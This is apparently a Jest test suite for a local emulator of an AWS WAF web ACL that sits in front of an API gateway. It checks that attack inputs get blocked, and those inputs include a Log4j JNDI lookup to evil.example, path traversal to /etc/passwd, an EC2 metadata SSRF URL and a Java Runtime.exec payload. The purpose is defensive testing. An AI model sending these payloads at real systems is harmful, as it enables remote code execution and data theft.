import { request } from 'node:http';
import type { IncomingHttpHeaders } from 'node:http';
import { LocalApiGateway } from '../../local/api-gateway';
import type { ResourceValues, Template } from '../../local/intrinsics';
import { TemplateResolver } from '../../local/intrinsics';
import type { LocalRoute } from '../../local/model';
import { errorResponses } from '../support/gateway-responses';
import type { GatewayRequest, WafRequest, WafResourceInput } from '../../local/waf';
import { NOT_EMULATED_MANAGED_RULES, WebAcl, WebAclGuard } from '../../local/waf';
import { synthReferenceSystem } from '../app/synth';

const ACCOUNT = '123456789012';
const REGION = 'us-east-1';
const ACL_ARN = `arn:aws:wafv2:${REGION}:${ACCOUNT}:webacl/test-acl`;

type Props = Record<string, unknown>;

/** A request like the reference system's own (Node's fetch sends `User-Agent: node`). */
function wafRequest(overrides: Partial<WafRequest> = {}): WafRequest {
  return {
    method: 'GET',
    uriPath: '/orders/v1/orders/3f1c2a9e-0000-4000-8000-000000000001',
    queryString: '',
    headers: [
      ['host', 'orders.execute-api.us-east-1.amazonaws.com'],
      ['user-agent', 'node'],
      ['accept', '*/*'],
      ['authorization', 'Bearer eyJraWQiOiJrMSIsImFsZyI6IlJTMjU2In0.eyJzdWIiOiJ1MSJ9.c2lnbmF0dXJl'],
    ],
    body: Buffer.alloc(0),
    sourceIp: '127.0.0.1',
    ...overrides,
  };
}

/** The same request as the gateway hands it to the guard. */
function gatewayRequest(overrides: Partial<WafRequest> = {}): GatewayRequest {
  const r = wafRequest(overrides);
  const multiValueHeaders: Record<string, string[]> = {};
  for (const [name, value] of r.headers) (multiValueHeaders[name] ??= []).push(value);
  return {
    method: r.method,
    rawPath: r.uriPath,
    rawQuery: r.queryString,
    multiValueHeaders,
    body: r.body,
    sourceIp: r.sourceIp,
  };
}

const withoutHeader = (name: string) => wafRequest().headers.filter(([n]) => n !== name);

function acl(rules: Props[], extra: Props = {}, referenced: Map<string, Props> = new Map()): WebAcl {
  const byArn = new Map(
    [...referenced].map(([arn, r]) => [
      arn,
      { type: String(r.type), name: String(r.name), properties: r.properties as Props },
    ]),
  );
  return new WebAcl(
    { name: 'test-acl', arn: ACL_ARN, properties: { DefaultAction: { Allow: {} }, Rules: rules, ...extra } },
    byArn,
  );
}

function managed(name: string, priority: number, statement: Props = {}, rule: Props = {}): Props {
  return {
    Name: name,
    Priority: priority,
    OverrideAction: { None: {} },
    Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name: name, ...statement } },
    ...rule,
  };
}

function byteMatch(
  field: Props,
  position: string,
  search: string,
  transformations: string[] = ['NONE'],
): Props {
  return {
    ByteMatchStatement: {
      FieldToMatch: field,
      PositionalConstraint: position,
      SearchString: search,
      TextTransformations: transformations.map((Type, Priority) => ({ Priority, Type })),
    },
  };
}

function blockRule(name: string, statement: Props, priority = 0, action: Props = { Block: {} }): Props {
  return { Name: name, Priority: priority, Action: action, Statement: statement };
}

// --- The reference system's web ACL, resolved from the synthesized templates -----------------------------

interface ReferenceAcl {
  readonly resources: WafResourceInput[];
  readonly webAcl: WafResourceInput;
}

/**
 * The web ACL of the platform stack and each service stack's association, resolved with the provisioner's
 * TemplateResolver the way the provisioner does (REST API id = service, registry parameter = the ACL's ARN).
 */
function referenceAcl(): ReferenceAcl {
  const { assembly } = synthReferenceSystem('local', { bundle: false });
  const resources: WafResourceInput[] = [];
  let webAcl: WafResourceInput | undefined;
  let aclArn = '';
  const stacks = [...assembly.stacks].sort((a) =>
    Object.values((a.template as Template).Resources).some((r) => r.Type === 'AWS::WAFv2::WebACL') ? -1 : 1,
  );
  for (const stack of stacks) {
    const template = stack.template as Template;
    const values = new Map<string, ResourceValues>();
    const service = stack.stackName.split('-')[2]?.toLowerCase() ?? '';
    for (const [id, resource] of Object.entries(template.Resources)) {
      if (resource.Type === 'AWS::ApiGateway::RestApi') values.set(id, { ref: service, attributes: {} });
      if (resource.Type === 'AWS::ApiGateway::Stage')
        values.set(id, { ref: String(resource.Properties?.StageName), attributes: {} });
    }
    const parameters: Record<string, string> = {};
    for (const [name, parameter] of Object.entries(template.Parameters ?? {}))
      parameters[name] = /web-?acl/i.test(String(parameter.Default))
        ? aclArn
        : String(parameter.Default ?? '');
    const resolver = new TemplateResolver(template, {
      stackName: stack.stackName,
      region: REGION,
      accountId: ACCOUNT,
      parameters,
      resource: (id) => values.get(id),
    });
    for (const [logicalId, resource] of Object.entries(template.Resources)) {
      if (!resource.Type.startsWith('AWS::WAFv2::')) continue;
      const properties = resolver.resolve(resource.Properties ?? {}, logicalId) as Props;
      const arn = `arn:aws:wafv2:${REGION}:${ACCOUNT}:webacl/${stack.stackName}-${logicalId}`;
      const input = {
        stackName: stack.stackName,
        logicalId,
        type: resource.Type,
        properties,
        attributes: { Arn: arn },
      };
      if (resource.Type === 'AWS::WAFv2::WebACL') {
        webAcl = input;
        aclArn = arn;
      }
      resources.push(input);
    }
  }
  if (!webAcl) throw new Error('the reference system has no web ACL');
  return { resources, webAcl };
}

/** A copy of the properties with every rate-based statement's Limit set to `limit`. */
function withRateLimits(properties: Props, limit: number): Props {
  const visit = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(visit);
    if (value === null || typeof value !== 'object') return value;
    const out: Props = {};
    for (const [key, item] of Object.entries(value)) out[key] = visit(item);
    if (typeof out.RateBasedStatement === 'object' && out.RateBasedStatement !== null)
      out.RateBasedStatement = { ...(out.RateBasedStatement as Props), Limit: limit };
    return out;
  };
  return visit(properties) as Props;
}

describe('the reference system web ACL', () => {
  let reference: ReferenceAcl;
  let guard: WebAclGuard;

  beforeAll(() => {
    reference = referenceAcl();
    guard = WebAclGuard.fromResources(reference.resources)!;
  });

  it('protects every service API stage with the platform web ACL', () => {
    for (const service of ['orders', 'inventory', 'users']) {
      expect(guard.aclOf(service)?.arn).toBe(reference.webAcl.attributes?.Arn);
    }
    expect(guard.aclOf('nothing')).toBeUndefined();
  });

  it('allows requests like the reference system sends (with a User-Agent)', () => {
    expect(guard.inspect('orders', gatewayRequest())).toBeUndefined();
    const placeOrder = gatewayRequest({
      method: 'POST',
      uriPath: '/orders/v1/orders',
      headers: [...wafRequest().headers, ['content-type', 'application/json']],
      body: Buffer.from(JSON.stringify({ lines: [{ sku: 'SKU-1', quantity: 2 }] })),
    });
    expect(guard.inspect('orders', placeOrder)).toBeUndefined();
    const signed = gatewayRequest({
      method: 'POST',
      uriPath: '/inventory/v1/internal/reservations',
      headers: [
        ['host', '127.0.0.1:3000'],
        ['user-agent', 'cdk-microservices/0.1.0 orders'],
        ['x-amz-date', '20260101T000000Z'],
        [
          'authorization',
          'AWS4-HMAC-SHA256 Credential=AKIA/20260101/us-east-1/execute-api/aws4_request, SignedHeaders=host;x-amz-date, Signature=abc',
        ],
      ],
      body: Buffer.from('{"orderId":"o-1","lines":[{"sku":"SKU-1","quantity":1}]}'),
    });
    expect(guard.inspect('inventory', signed)).toBeUndefined();
    // The local gateway's own address is the API's domain to WAF (Host_localhost_HEADER does not fire).
    const local = gatewayRequest({
      headers: [
        ['host', 'localhost:3000'],
        ['user-agent', 'node'],
      ],
    });
    expect(guard.inspect('users', local)).toBeUndefined();
  });

  it('blocks a request without a User-Agent with NoUserAgent_HEADER', () => {
    const rejection = guard.inspect('orders', gatewayRequest({ headers: withoutHeader('user-agent') }));
    expect(rejection).toMatchObject({ types: ['WAF_FILTERED'], status: 403, message: 'Forbidden' });
    expect(rejection?.reason).toContain('rule AWS-AWSManagedRulesCommonRuleSet/NoUserAgent_HEADER');
    expect(rejection?.reason).toContain(`web ACL ${String(reference.webAcl.properties.Name ?? '')}`);
  });

  it('blocks an oversized body, query string and URI path', () => {
    const reason = (r: Partial<WafRequest>) =>
      guard.inspect('orders', gatewayRequest(r))?.reason ?? 'allowed';
    expect(reason({ method: 'POST', body: Buffer.alloc(8193, 'a') })).toContain('/SizeRestrictions_BODY');
    expect(reason({ method: 'POST', body: Buffer.alloc(8192, 'a') })).toBe('allowed');
    expect(reason({ queryString: `q=${'a'.repeat(2047)}` })).toContain('/SizeRestrictions_QUERYSTRING');
    expect(reason({ queryString: `q=${'a'.repeat(2046)}` })).toBe('allowed');
    expect(reason({ uriPath: `/orders/${'a'.repeat(1017)}` })).toContain('/SizeRestrictions_URIPATH');
    expect(reason({ uriPath: `/orders/${'a'.repeat(1016)}` })).toBe('allowed');
  });

  it('blocks known bad inputs (Log4j lookups, PROPFIND, exploitable paths)', () => {
    const reason = (r: Partial<WafRequest>) =>
      guard.inspect('orders', gatewayRequest(r))?.reason ?? 'allowed';
    expect(
      reason({ headers: [...wafRequest().headers, ['x-api-version', '${jndi:ldap://evil.example/a}']] }),
    ).toContain('AWS-AWSManagedRulesKnownBadInputsRuleSet/Log4JRCE_HEADER');
    expect(reason({ method: 'PROPFIND' })).toContain('/PROPFIND_METHOD');
    expect(reason({ uriPath: '/orders/WEB-INF/web.xml' })).toContain('/ExploitablePaths_URIPATH');
  });

  it('lists what it cannot decide (the IP reputation list) instead of evaluating it', () => {
    const lines = guard.describe().join('\n');
    expect(lines).toContain('AWS-AWSManagedRulesAmazonIpReputationList');
    expect(lines).toContain('CrossSiteScripting_');
    expect(NOT_EMULATED_MANAGED_RULES.map((e) => e.what).join('\n')).toContain(
      'AWSManagedRulesAmazonIpReputationList',
    );
  });

  it('blocks one client over the rate limit of its rate-based rules, not another', () => {
    const limit = 5;
    let now = Date.parse('2026-01-01T00:00:00Z');
    const lowered = reference.resources.map((r) =>
      r.type === 'AWS::WAFv2::WebACL' ? { ...r, properties: withRateLimits(r.properties, limit) } : r,
    );
    const rateRules = ((reference.webAcl.properties.Rules as Props[]) ?? [])
      .filter((r) => 'RateBasedStatement' in ((r.Statement as Props) ?? {}))
      .map((r) => String(r.Name));
    expect(rateRules.length).toBeGreaterThan(0);
    const lowGuard = WebAclGuard.fromResources(lowered, { now: () => now })!;
    const from = (ip: string) => lowGuard.inspect('orders', gatewayRequest({ sourceIp: ip }));
    for (let i = 0; i < limit; i++) expect(from('10.0.0.1')).toBeUndefined();
    const blocked = from('10.0.0.1');
    expect(blocked?.reason).toMatch(new RegExp(`rule (${rateRules.join('|')}),`));
    expect(from('10.0.0.2')).toBeUndefined();
    // Once the requests have left the evaluation window the client is let through again.
    now += 301_000;
    expect(from('10.0.0.1')).toBeUndefined();
  });
});

describe('WebAcl', () => {
  it('blocks no User-Agent, and lets it through when the rule is excluded or overridden to Count', () => {
    const noUa = wafRequest({ headers: withoutHeader('user-agent') });
    expect(acl([managed('AWSManagedRulesCommonRuleSet', 1)]).evaluate(noUa)).toMatchObject({
      action: 'BLOCK',
      rule: 'AWS-AWSManagedRulesCommonRuleSet/NoUserAgent_HEADER',
      labels: ['awswaf:managed:aws:core-rule-set:NoUserAgent_Header'],
    });
    const excluded = acl([
      managed('AWSManagedRulesCommonRuleSet', 1, { ExcludedRules: [{ Name: 'NoUserAgent_HEADER' }] }),
    ]).evaluate(noUa);
    expect(excluded).toMatchObject({
      action: 'ALLOW',
      counted: ['AWS-AWSManagedRulesCommonRuleSet/NoUserAgent_HEADER'],
      labels: ['awswaf:managed:aws:core-rule-set:NoUserAgent_Header'],
    });
    const overridden = acl([
      managed('AWSManagedRulesCommonRuleSet', 1, {
        RuleActionOverrides: [{ Name: 'NoUserAgent_HEADER', ActionToUse: { Count: {} } }],
      }),
    ]).evaluate(noUa);
    expect(overridden.action).toBe('ALLOW');
    const groupCount = acl([
      managed('AWSManagedRulesCommonRuleSet', 1, {}, { OverrideAction: { Count: {} } }),
    ]).evaluate(noUa);
    expect(groupCount).toMatchObject({
      action: 'ALLOW',
      counted: ['AWS-AWSManagedRulesCommonRuleSet/NoUserAgent_HEADER'],
    });
  });

  it('lets a later rule act on the label of a counted managed rule', () => {
    const web = acl([
      managed('AWSManagedRulesCommonRuleSet', 1, { ExcludedRules: [{ Name: 'SizeRestrictions_BODY' }] }),
      blockRule(
        'LargeBodiesOnlyForUploads',
        {
          AndStatement: {
            Statements: [
              {
                LabelMatchStatement: {
                  Scope: 'LABEL',
                  Key: 'awswaf:managed:aws:core-rule-set:SizeRestrictions_Body',
                },
              },
              { NotStatement: { Statement: byteMatch({ UriPath: {} }, 'STARTS_WITH', '/uploads/') } },
            ],
          },
        },
        2,
      ),
    ]);
    const big = Buffer.alloc(9000, 'x');
    expect(web.evaluate(wafRequest({ method: 'POST', uriPath: '/uploads/a', body: big })).action).toBe(
      'ALLOW',
    );
    expect(web.evaluate(wafRequest({ method: 'POST', body: big }))).toMatchObject({
      action: 'BLOCK',
      rule: 'LargeBodiesOnlyForUploads',
    });
  });

  it('counts with a Count rule without blocking, adding its labels', () => {
    const verdict = acl([
      {
        ...blockRule(
          'CountCurl',
          byteMatch({ SingleHeader: { Name: 'User-Agent' } }, 'CONTAINS', 'curl', ['LOWERCASE']),
          0,
          {
            Count: {},
          },
        ),
        RuleLabels: [{ Name: 'tool:curl' }],
      },
    ]).evaluate(wafRequest({ headers: [['user-agent', 'Curl/8.5']] }));
    expect(verdict).toMatchObject({
      action: 'ALLOW',
      counted: ['CountCurl'],
      labels: [`awswaf:${ACCOUNT}:webacl:test-acl:tool:curl`],
    });
  });

  it('evaluates rules in priority order and applies the default action', () => {
    const web = acl(
      [
        blockRule('BlockAdmin', byteMatch({ UriPath: {} }, 'STARTS_WITH', '/admin'), 2),
        blockRule('AllowOffice', byteMatch({ SingleHeader: { Name: 'x-office' } }, 'EXACTLY', 'yes'), 1, {
          Allow: {},
        }),
      ],
      { DefaultAction: { Block: {} } },
    );
    expect(web.evaluate(wafRequest({ uriPath: '/admin', headers: [['x-office', 'yes']] })).rule).toBe(
      'AllowOffice',
    );
    expect(web.evaluate(wafRequest({ uriPath: '/admin' })).rule).toBe('BlockAdmin');
    const byDefault = web.evaluate(wafRequest());
    expect(byDefault.action).toBe('BLOCK');
    expect(byDefault.rule).toBeUndefined();
  });

  it.each([
    ['EXACTLY', 'abc', 'abc', true],
    ['EXACTLY', 'abc', 'abcd', false],
    ['STARTS_WITH', 'ab', 'abc', true],
    ['ENDS_WITH', 'bc', 'abc', true],
    ['ENDS_WITH', 'ab', 'abc', false],
    ['CONTAINS', 'b', 'abc', true],
    ['CONTAINS_WORD', 'select', 'a select b', true],
    ['CONTAINS_WORD', 'select', 'a selection', false],
    ['CONTAINS_WORD', 'select', 'select', true],
  ])('ByteMatch %s %j in %j: %s', (position, search, value, expected) => {
    const web = acl([blockRule('R', byteMatch({ SingleHeader: { Name: 'x-v' } }, position, search))]);
    expect(web.evaluate(wafRequest({ headers: [['x-v', value]] })).action).toBe(expected ? 'BLOCK' : 'ALLOW');
  });

  it.each([
    [['URL_DECODE', 'LOWERCASE'], '%3CSCRIPT%3E', '<script>'],
    [['HTML_ENTITY_DECODE'], '&lt;a&#62;&#x3c;', '<a><'],
    [['COMPRESS_WHITE_SPACE'], 'a \t\n b', 'a b'],
    [['CMD_LINE'], 'C^md.Exe /c "Who"Ami', 'cmd.exe/c whoami'],
    [['BASE64_DECODE'], Buffer.from('hello').toString('base64'), 'hello'],
    [['NORMALIZE_PATH'], '/a/./b/../c//d', '/a/c/d'],
    [['URL_DECODE', 'URL_DECODE'], '%252e%252e', '..'],
  ])('text transformations %j turn %j into %j', (types, value, expected) => {
    const web = acl([
      blockRule('R', byteMatch({ SingleHeader: { Name: 'x-v' } }, 'EXACTLY', expected, types)),
    ]);
    expect(web.evaluate(wafRequest({ headers: [['x-v', value]] })).action).toBe('BLOCK');
  });

  it('reads every field to match', () => {
    const match = (field: Props, search: string, request: Partial<WafRequest>) =>
      acl([blockRule('R', byteMatch(field, 'CONTAINS', search))]).evaluate(wafRequest(request)).action;
    expect(match({ Method: {} }, 'DELETE', { method: 'DELETE' })).toBe('BLOCK');
    expect(match({ QueryString: {} }, 'a=1&b', { queryString: 'a=1&b=2' })).toBe('BLOCK');
    expect(match({ SingleQueryArgument: { Name: 'Token' } }, 'x', { queryString: 'token=x' })).toBe('BLOCK');
    expect(match({ AllQueryArguments: {} }, 'evil', { queryString: 'a=1&b=evil' })).toBe('BLOCK');
    expect(match({ AllQueryArguments: {} }, 'b', { queryString: 'a=1&b=2' })).toBe('ALLOW');
    expect(match({ Body: {} }, 'needle', { body: Buffer.from('hay needle hay') })).toBe('BLOCK');
    const headers = {
      Headers: { MatchPattern: { All: {} }, MatchScope: 'KEY', OversizeHandling: 'CONTINUE' },
    };
    expect(match(headers, 'x-debug', { headers: [['X-Debug', '1']] })).toBe('ALLOW'); // keys are as sent
    expect(match(headers, 'X-Debug', { headers: [['X-Debug', '1']] })).toBe('BLOCK');
    const cookies = {
      Cookies: {
        MatchPattern: { IncludedCookies: ['session'] },
        MatchScope: 'VALUE',
        OversizeHandling: 'CONTINUE',
      },
    };
    expect(match(cookies, 'bad', { headers: [['cookie', 'a=bad; session=bad']] })).toBe('BLOCK');
    expect(match(cookies, 'bad', { headers: [['cookie', 'a=bad; session=ok']] })).toBe('ALLOW');
    const json = { JsonBody: { MatchPattern: { IncludedPaths: ['/role'] }, MatchScope: 'VALUE' } };
    expect(match(json, 'admin', { body: Buffer.from('{"role":"admin"}') })).toBe('BLOCK');
    expect(match(json, 'admin', { body: Buffer.from('{"name":"admin"}') })).toBe('ALLOW');
  });

  it('evaluates size constraints, regexes, IP sets and logical statements', () => {
    const ipSetArn = `arn:aws:wafv2:${REGION}:${ACCOUNT}:ipset/office`;
    const regexArn = `arn:aws:wafv2:${REGION}:${ACCOUNT}:regexpatternset/ids`;
    const web = acl(
      [
        blockRule('Size', {
          SizeConstraintStatement: {
            FieldToMatch: { SingleHeader: { Name: 'x-size' } },
            ComparisonOperator: 'GT',
            Size: 3,
            TextTransformations: [{ Priority: 0, Type: 'NONE' }],
          },
        }),
        blockRule(
          'Regex',
          {
            RegexMatchStatement: {
              FieldToMatch: { UriPath: {} },
              RegexString: '(?i)/DEBUG$',
              TextTransformations: [{ Priority: 0, Type: 'NONE' }],
            },
          },
          1,
        ),
        blockRule(
          'RegexSet',
          {
            RegexPatternSetReferenceStatement: {
              Arn: regexArn,
              FieldToMatch: { SingleQueryArgument: { Name: 'id' } },
              TextTransformations: [{ Priority: 0, Type: 'NONE' }],
            },
          },
          2,
        ),
        blockRule(
          'OfficeOnlyForReports',
          {
            AndStatement: {
              Statements: [
                byteMatch({ UriPath: {} }, 'STARTS_WITH', '/reports'),
                { NotStatement: { Statement: { IPSetReferenceStatement: { Arn: ipSetArn } } } },
              ],
            },
          },
          3,
        ),
        blockRule(
          'Either',
          {
            OrStatement: {
              Statements: [
                byteMatch({ Method: {} }, 'EXACTLY', 'TRACE'),
                byteMatch({ Method: {} }, 'EXACTLY', 'CONNECT'),
              ],
            },
          },
          4,
        ),
      ],
      {},
      new Map<string, Props>([
        [
          ipSetArn,
          {
            type: 'AWS::WAFv2::IPSet',
            name: 'office',
            properties: { Addresses: ['10.1.0.0/16', '2001:db8::/32'] },
          },
        ],
        [
          regexArn,
          {
            type: 'AWS::WAFv2::RegexPatternSet',
            name: 'ids',
            properties: { RegularExpressionList: ['^[0-9]+x$'] },
          },
        ],
      ]),
    );
    const rule = (r: Partial<WafRequest>) => web.evaluate(wafRequest(r)).rule;
    expect(rule({ headers: [['x-size', 'abcd']] })).toBe('Size');
    expect(rule({ headers: [['x-size', 'abc']] })).toBeUndefined();
    expect(rule({ uriPath: '/a/debug' })).toBe('Regex');
    expect(rule({ queryString: 'id=123x' })).toBe('RegexSet');
    expect(rule({ queryString: 'id=123' })).toBeUndefined();
    expect(rule({ uriPath: '/reports/1', sourceIp: '10.2.0.1' })).toBe('OfficeOnlyForReports');
    expect(rule({ uriPath: '/reports/1', sourceIp: '10.1.3.4' })).toBeUndefined();
    expect(rule({ uriPath: '/reports/1', sourceIp: '2001:db8::5' })).toBeUndefined();
    expect(rule({ method: 'CONNECT' })).toBe('Either');
  });

  it('never matches on what it cannot decide, even under a Not, and reports it', () => {
    const web = acl([
      blockRule('NotFromHome', {
        NotStatement: { Statement: { GeoMatchStatement: { CountryCodes: ['DE'] } } },
      }),
    ]);
    expect(web.evaluate(wafRequest()).action).toBe('ALLOW');
    expect(web.notEmulated.join('\n')).toMatch(/NotFromHome: GeoMatchStatement/);
  });

  it('blocks a client over a rate limit for the requests in its scope-down, per IP and window', () => {
    let now = Date.parse('2026-01-01T00:00:00Z');
    const web = acl([
      blockRule('OrdersRate', {
        RateBasedStatement: {
          Limit: 3,
          AggregateKeyType: 'IP',
          EvaluationWindowSec: 60,
          ScopeDownStatement: byteMatch({ UriPath: {} }, 'STARTS_WITH', '/orders'),
        },
      }),
    ]);
    const call = (uriPath: string, sourceIp = '10.0.0.1') =>
      web.evaluate(wafRequest({ uriPath, sourceIp }), now);
    for (let i = 0; i < 3; i++) expect(call('/orders/v1/orders').action).toBe('ALLOW');
    for (let i = 0; i < 10; i++) expect(call('/users/v1/me').action).toBe('ALLOW'); // not in scope: not counted
    expect(call('/orders/v1/orders')).toMatchObject({ action: 'BLOCK', rule: 'OrdersRate' });
    expect(call('/users/v1/me').action).toBe('ALLOW');
    expect(call('/orders/v1/orders', '10.0.0.2').action).toBe('ALLOW');
    now += 61_000;
    expect(call('/orders/v1/orders').action).toBe('ALLOW');
  });

  it('decides the documented core rule set and known bad inputs rules from the request', () => {
    const web = acl([
      managed('AWSManagedRulesCommonRuleSet', 1),
      managed('AWSManagedRulesKnownBadInputsRuleSet', 2),
    ]);
    const rule = (r: Partial<WafRequest>) => web.evaluate(wafRequest(r)).rule ?? 'allowed';
    const ua = (value: string) => ({ headers: [['user-agent', value]] as [string, string][] });
    expect(rule(ua('sqlmap/1.7'))).toBe('AWS-AWSManagedRulesCommonRuleSet/UserAgent_BadBots_HEADER');
    expect(rule(ua('Mozilla/5.0 (X11; Linux x86_64)'))).toBe('allowed');
    expect(
      rule({
        headers: [
          ['user-agent', 'node'],
          ['cookie', `s=${'a'.repeat(10_240)}`],
        ],
      }),
    ).toContain('SizeRestrictions_Cookie_HEADER');
    expect(rule({ queryString: 'url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data' })).toContain(
      'EC2MetaDataSSRF_QUERYARGUMENTS',
    );
    expect(rule({ queryString: 'file=..%2F..%2Fetc%2Fpasswd' })).toContain('GenericLFI_QUERYARGUMENTS');
    expect(rule({ uriPath: '/orders/%2e%2e%2f%2e%2e%2fetc' })).toContain('GenericLFI_URIPATH');
    expect(rule({ method: 'POST', body: Buffer.from('{"path":"../../secret"}') })).toContain(
      'GenericLFI_BODY',
    );
    expect(rule({ uriPath: '/orders/app.ini' })).toContain('RestrictedExtensions_URIPATH');
    expect(rule({ queryString: 'f=server.log' })).toContain('RestrictedExtensions_QUERYARGUMENTS');
    expect(rule({ queryString: 'email=demo%40example.com' })).toBe('allowed');
    expect(rule({ queryString: 'next=http://10.0.0.1/x' })).toContain('GenericRFI_QUERYARGUMENTS');
    expect(rule({ queryString: 'next=https://example.com/x' })).toBe('allowed');
    expect(rule({ method: 'POST', body: Buffer.from('{"cb":"ftp://192.168.1.1/a"}') })).toContain(
      'GenericRFI_BODY',
    );
    expect(
      rule({
        headers: [
          ['host', 'localhost'],
          ['user-agent', 'node'],
        ],
      }),
    ).toContain('Host_localhost_HEADER');
    expect(
      rule({ method: 'POST', body: Buffer.from('T(java.lang.Runtime).getRuntime().exec("id")') }),
    ).toContain('JavaDeserializationRCE_BODY');
    expect(rule({ queryString: 'x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe%2Fa%7D' })).toContain(
      'Log4JRCE_QUERYSTRING',
    );
    expect(rule({ method: 'POST', body: Buffer.from('{"note":"costs ${amount}"}') })).toBe('allowed');
  });

  it('inspects only the body API Gateway forwards (16 KB by default, AssociationConfig otherwise)', () => {
    const rule = blockRule(
      'Needle',
      byteMatch({ Body: { OversizeHandling: 'CONTINUE' } }, 'CONTAINS', 'needle'),
    );
    const body = Buffer.concat([Buffer.alloc(20 * 1024, 'a'), Buffer.from('needle')]);
    expect(acl([rule]).evaluate(wafRequest({ body })).action).toBe('ALLOW');
    const bigger = {
      AssociationConfig: { RequestBody: { API_GATEWAY: { DefaultSizeInspectionLimit: 'KB_32' } } },
    };
    expect(acl([rule], bigger).evaluate(wafRequest({ body })).action).toBe('BLOCK');
    const oversizeMatch = blockRule(
      'Oversize',
      byteMatch({ Body: { OversizeHandling: 'MATCH' } }, 'CONTAINS', 'zzz'),
    );
    expect(acl([oversizeMatch]).evaluate(wafRequest({ body })).action).toBe('BLOCK');
  });

  it('treats CAPTCHA and Challenge as terminating for API clients', () => {
    const resources: WafResourceInput[] = [
      {
        stackName: 'P',
        logicalId: 'Acl',
        type: 'AWS::WAFv2::WebACL',
        attributes: { Arn: ACL_ARN },
        properties: {
          Name: 'captcha-acl',
          DefaultAction: { Allow: {} },
          Rules: [
            blockRule('Puzzle', byteMatch({ UriPath: {} }, 'ENDS_WITH', '/signup'), 0, { Captcha: {} }),
          ],
        },
      },
      {
        stackName: 'S',
        logicalId: 'Assoc',
        type: 'AWS::WAFv2::WebACLAssociation',
        properties: {
          WebACLArn: ACL_ARN,
          ResourceArn: `arn:aws:apigateway:${REGION}::/restapis/users/stages/v1`,
        },
      },
    ];
    const guard = WebAclGuard.fromResources(resources)!;
    expect(guard.inspect('users', gatewayRequest({ uriPath: '/users/signup' }))?.reason).toMatch(
      /^CAPTCHA .* by web ACL captcha-acl, rule Puzzle/,
    );
    expect(guard.inspect('users', gatewayRequest())).toBeUndefined();
  });
});

// --- Through the local gateway ------------------------------------------------------------------------------

function send(
  url: string,
  headers: Record<string, string>,
): Promise<{ status: number; headers: IncomingHttpHeaders; json: unknown }> {
  return new Promise((resolve, reject) => {
    // node:http sends no User-Agent unless one is given.
    const req = request(url, { method: 'GET', headers, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({
          status: res.statusCode ?? 0,
          headers: res.headers,
          json: JSON.parse(Buffer.concat(chunks).toString('utf8')) as unknown,
        }),
      );
    });
    req.on('error', reject);
    req.end();
  });
}

describe('LocalApiGateway with a web ACL', () => {
  const logLines: string[] = [];
  const invoked: string[] = [];
  let gateway: LocalApiGateway;
  let baseUrl: string;

  beforeAll(async () => {
    const route: LocalRoute = {
      service: 'orders',
      method: 'GET',
      resourcePath: '/health',
      authorization: { type: 'NONE' },
      functionKey: 'health',
      requiredParameters: [],
      validateBody: false,
      stage: 'v1',
    };
    const waf = WebAclGuard.fromResources([
      {
        stackName: 'Shop-local-Platform',
        logicalId: 'WebAcl',
        type: 'AWS::WAFv2::WebACL',
        attributes: { Arn: ACL_ARN },
        properties: {
          Name: 'Shop-local-waf',
          DefaultAction: { Allow: {} },
          Rules: [managed('AWSManagedRulesCommonRuleSet', 1)],
        },
      },
      {
        stackName: 'Shop-local-Orders',
        logicalId: 'WebAclAssociation',
        type: 'AWS::WAFv2::WebACLAssociation',
        properties: {
          WebACLArn: ACL_ARN,
          ResourceArn: `arn:aws:apigateway:${REGION}::/restapis/orders/stages/v1`,
        },
      },
    ]);
    gateway = new LocalApiGateway({
      routes: [route],
      gatewayResponses: errorResponses('orders'),
      emulator: {
        endpoint: 'http://127.0.0.1:9',
        region: REGION,
        accessKeyId: 'test',
        secretAccessKey: 'test',
      },
      invoke: async (functionKey) => {
        invoked.push(functionKey);
        return { statusCode: 200, body: JSON.stringify({ status: 'ok' }) };
      },
      port: 0,
      waf,
      log: (line) => logLines.push(line),
    });
    baseUrl = (await gateway.start()).url;
  });

  afterAll(async () => {
    await gateway.stop();
  });

  it('answers a blocked request 403 REQUEST_BLOCKED and logs the web ACL and the rule', async () => {
    const reply = await send(`${baseUrl}/orders/health`, {});
    expect(reply.status).toBe(403);
    expect(reply.json).toEqual({
      error: { code: 'REQUEST_BLOCKED', message: 'Forbidden', requestId: reply.headers['x-amzn-requestid'] },
    });
    expect(invoked).toEqual([]);
    const line = logLines.find((l) => l.includes(String(reply.headers['x-amzn-requestid'])));
    expect(line).toMatch(
      /^GET \/orders\/health 403 .*WAF_FILTERED: blocked by web ACL Shop-local-waf, rule AWS-AWSManagedRulesCommonRuleSet\/NoUserAgent_HEADER, client 127\.0\.0\.1$/,
    );
  });

  it('passes an allowed request on to the route', async () => {
    const reply = await send(`${baseUrl}/orders/health`, { 'User-Agent': 'node' });
    expect(reply.status).toBe(200);
    expect(reply.json).toEqual({ status: 'ok' });
    expect(invoked).toEqual(['health']);
  });
});
